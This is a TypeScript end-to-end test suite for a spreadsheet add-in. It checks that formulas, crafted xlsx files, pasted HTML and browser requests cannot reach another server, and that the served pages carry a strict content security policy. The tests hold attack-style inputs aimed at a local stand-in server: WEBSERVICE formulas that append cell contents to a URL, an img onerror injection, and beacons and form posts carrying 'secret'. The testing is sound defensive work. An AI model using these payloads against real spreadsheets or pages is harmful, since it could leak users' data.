import { createServer } from "node:http";
import type { Server } from "node:http";
import type { AddressInfo } from "node:net";
import { connect } from "node:net";
import os from "node:os";
import type { Locator, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { cellsField } from "../../../addin/standalone/grid/cellsField.ts";
import { askingFunctions } from "../../../addin/workbook/keptFormula.ts";
import { handMade } from "../../workbook/xlsx/handMade.ts";
import type { Visitor } from "../page.ts";
import { newVisitor, openFile } from "../page.ts";

describe("nothing leaves the page", () => {
  const asked: string[] = [];
  let other: Server;
  let visitor: Visitor;
  let page: Page;
  /** Where the second server listens, which must not be asked. */
  let elsewhere: string;

  beforeAll(async () => {
    other = createServer((request, response) => {
      asked.push(request.url ?? "");
      response.setHeader("access-control-allow-origin", "*");
      response.end("asked");
    });
    await new Promise<void>((resolve) => other.listen(0, "localhost", resolve));
    elsewhere = `http://localhost:${String((other.address() as AddressInfo).port)}`;
    visitor = await newVisitor();
    page = await visitor.open(inject("address"));
  });

  afterAll(async () => {
    await visitor.close();
    other.close();
  });

  /** What is said above the sheet. */
  const notices = async (): Promise<string> =>
    (await page.locator(".notices").innerText()).replace(/\s+/g, " ");

  it("asks nothing for a formula typed key by key, which becomes text, with a word about it", async () => {
    await cells(page).click({ position: { x: 300, y: 300 } });
    await page.locator(`${cellsField}:focus`).waitFor({ state: "attached" });
    for (const name of ["WEBSERVICE", "IMAGE", "IMPORTDATA"]) {
      await page.keyboard.type(`=${name}("${elsewhere}/typed?"&A1)`, { delay: 5 });
      await page.keyboard.press("Enter");
      await page.getByText(`“=${name}(`).waitFor();
      await expect.poll(notices).toContain("is kept as text: it would ask another computer or program");
    }
    await page.keyboard.type(`=HYPERLINK("${elsewhere}/link","see")`, { delay: 5 });
    await page.keyboard.press("Enter");
    await page.keyboard.press("ArrowUp");
    expect(asked).toEqual([]);
  });

  it("asks nothing for a file with every way to ask", async () => {
    const rows = askingFunctions
      .map(
        (name, i) =>
          `<row r="${String(i + 2)}"><c r="A${String(i + 2)}"><f>${name}("${elsewhere}/${name}?"&amp;A1)</f></c></row>`,
      )
      .join("");
    const external = (id: string, kind: string, path: string) =>
      `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${elsewhere}/${path}" TargetMode="External"/>`;
    const bytes = handMade({
      sheet:
        `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>secret</t></is></c><c r="B1"><f>HYPERLINK("${elsewhere}/h","x")</f></c><c r="C1"><f>_xlfn.LET(_xlpm.w,_xlfn.WEBSERVICE,_xlpm.w("${elsewhere}/let"))</f></c><c r="D1"><f>'${elsewhere}/[book.xlsx]S'!A1</f></c></row>${rows}</sheetData>` +
        '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><drawing r:id="rId2"/><picture r:id="rId3"/>',
      parts: {
        "xl/worksheets/_rels/sheet1.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${external("rId1", "hyperlink", "link")}${external("rId2", "drawing", "drawing.xml")}${external("rId3", "image", "picture.png")}</Relationships>`,
      },
    });
    await openFile(page, "asks.xlsx", bytes);
    await page.getByText("“asks.xlsx” is open.").waitFor();
    await expect
      .poll(notices)
      .toContain("formulas that would ask another computer or program, which is text now");
    // The cell with a link, clicked as links are.
    await cells(page).click({ position: { x: 80, y: 32 }, modifiers: ["Control"] });
    await cells(page).dblclick({ position: { x: 180, y: 32 } });
    await page.keyboard.press("Escape");
    expect(asked).toEqual([]);
    expect(visitor.context.pages().filter((each) => each.url().startsWith(elsewhere))).toEqual([]);
  });

  it("asks nothing for what is pasted with pictures and links in it", async () => {
    await cells(page).click({ position: { x: 300, y: 400 }, force: true });
    await page.evaluate((address) => {
      const data = new DataTransfer();
      data.setData(
        "text/html",
        `<style>@import "${address}/import.css"; td { background: url(${address}/ground.png) }</style><table><tr><td style="background-image:url(${address}/cell.png)"><img src="${address}/img.png"><a href="${address}/a">link</a></td></tr></table>`,
      );
      data.setData("text/plain", "link");
      document.activeElement?.dispatchEvent(
        new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }),
      );
    }, elsewhere);
    await page.evaluate(() => new Promise(requestAnimationFrame));
    expect(asked).toEqual([]);
  });

  it("is forbidden to ask, whatever would ask", async () => {
    const refused = await page.evaluate(async (address) => {
      const directives: string[] = [];
      Object.assign(window, { directives });
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        directives.push(effectiveDirective);
      });
      const add = (html: string): void => {
        document.body.insertAdjacentHTML("beforeend", `<div hidden>${html}</div>`);
      };
      const outcomes = await Promise.allSettled([
        fetch(`${address}/fetch`),
        fetch(`${address}/post`, { method: "POST", mode: "no-cors", body: "secret" }),
        new Promise((_, reject) => {
          const request = new XMLHttpRequest();
          request.onerror = reject;
          request.open("GET", `${address}/xhr`);
          request.send();
        }),
      ]);
      navigator.sendBeacon(`${address}/beacon`, "secret");
      new EventSource(`${address}/events`);
      new WebSocket(address.replace("http", "ws"));
      new Image().src = `${address}/image`;
      add(
        `<img src="${address}/img"><iframe src="${address}/frame"></iframe><object data="${address}/object"></object>`,
      );
      add(
        `<embed src="${address}/embed"><video src="${address}/video"></video><svg><image href="${address}/svg"/></svg>`,
      );
      add(
        `<style>@import "${address}/import"; @font-face { font-family: F; src: url(${address}/font) } .f { font-family: F; background: url(${address}/ground) }</style><p class="f">x</p>`,
      );
      add(
        `<link rel="stylesheet" href="${address}/sheet"><link rel="prefetch" href="${address}/prefetch"><link rel="icon" href="${address}/icon">`,
      );
      add(`<form action="${address}/form" method="post"><input name="x" value="secret"></form>`);
      const script = document.createElement("script");
      script.src = `${address}/script`;
      document.body.append(script);
      const inline = document.createElement("script");
      inline.textContent = "window.ranInline = true";
      document.body.append(inline);
      document.forms[document.forms.length - 1]?.submit();
      const canEval = ((): boolean => {
        try {
          return Boolean(window.eval("1"));
        } catch {
          return false;
        }
      })();
      return {
        settled: outcomes.map(({ status }) => status),
        canEval,
      };
    }, elsewhere);
    expect(refused.settled).toEqual(["rejected", "rejected", "rejected"]);
    // As a text, since the test runner would rewrite the import.
    expect(await page.evaluate(`import("${elsewhere}/module").then(() => "loaded", () => "refused")`)).toBe(
      "refused",
    );
    // The browser tells of each when it comes to it.
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { directives: string[] }).directives))
      .toEqual(
        expect.arrayContaining([
          "connect-src",
          "form-action",
          "frame-src",
          "img-src",
          "script-src-elem",
          "style-src-elem",
        ]),
      );
    expect(refused.canEval).toBe(false);
    expect(await page.evaluate(() => "ranInline" in window)).toBe(false);
    expect(asked).toEqual([]);
  });

  it("shows names with HTML in them as text, in the pane too", async () => {
    const name = `<img src="${elsewhere}/name" onerror="document.title='ran'"><b>Bold</b>`;
    await page.reload();
    await page.locator("html[data-ready='true']").waitFor();
    await page.getByLabel("Sections").getByRole("button", { name: "Import" }).click();
    await page
      .getByLabel("Or paste rows, headings first")
      .fill(`Name\tBust (mm)\tWaist (mm)\n${name}\t201\t2,00,1\n`);
    await page.getByRole("button", { name: "Read the pasted rows" }).click();
    await page.getByRole("button", { name: /^Import \d/ }).click();
    await page.getByText("The table Figures holds the figures now.").waitFor();
    for (const section of ["Check", "Groups", "Fit", "Grade"]) {
      await page.getByLabel("Sections").getByRole("button", { name: section }).click();
      await page.getByRole("heading", { name: section, level: 1 }).last().waitFor();
      expect(await page.locator(`img[src^="${elsewhere}"]`).count(), section).toBe(0);
    }
    expect(await page.title()).toMatch(/Measure Book$/);
    expect(asked).toEqual([]);
  });
});

describe("what npm start serves", () => {
  it("comes with the policy, and is not to be taken for another kind of file", async () => {
    for (const path of ["", "standalone.js", "taskpane.html", "nothing-here"]) {
      const { headers } = await fetch(inject("address") + path);
      expect(headers.get("x-content-type-options"), path).toBe("nosniff");
      expect(headers.get("content-security-policy"), path).toMatch(
        /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval'/,
      );
      expect(headers.get("content-security-policy"), path).not.toMatch(
        /unsafe-eval'? .*unsafe-eval|'unsafe-eval'/,
      );
    }
  });

  it("is heard on this computer only", async () => {
    const { port } = new URL(inject("address"));
    const outside = Object.values(os.networkInterfaces())
      .flatMap((each) => each ?? [])
      .filter(({ internal, family }) => !internal && family === "IPv4");
    for (const { address } of outside) expect(await answers(address, Number(port)), address).toBe(false);
    expect((await answers("127.0.0.1", Number(port))) || (await answers("::1", Number(port)))).toBe(true);
  });

  it("has a page that needs nothing that its policy forbids", async () => {
    const visitor = await newVisitor();
    const page = await visitor.context.newPage();
    await page.addInitScript(() => {
      const found: string[] = [];
      Object.assign(window, { found });
      document.addEventListener("securitypolicyviolation", (event) => {
        found.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`);
      });
    });
    await page.goto(inject("address"));
    await page.locator("html[data-ready='true']").waitFor({ timeout: 90_000 });
    for (const section of ["Home", "Import", "Measure", "Check", "Groups", "Fit", "Grade", "Functions"]) {
      await page.getByLabel("Sections").getByRole("button", { name: section }).click();
      await page.getByRole("heading", { name: section, level: 1 }).last().waitFor();
    }
    expect(await page.evaluate(() => (window as unknown as { found: string[] }).found)).toEqual([]);
    await visitor.close();
  });
});

/** The sheet, where its cells are drawn. */
function cells(page: Page): Locator {
  return page.locator("canvas[id^='univer-sheet-main-canvas']");
}

function answers(host: string, port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect({ host, port });
    socket.once("connect", () => {
      socket.destroy();
      resolve(true);
    });
    socket.once("error", () => {
      resolve(false);
    });
  });
}
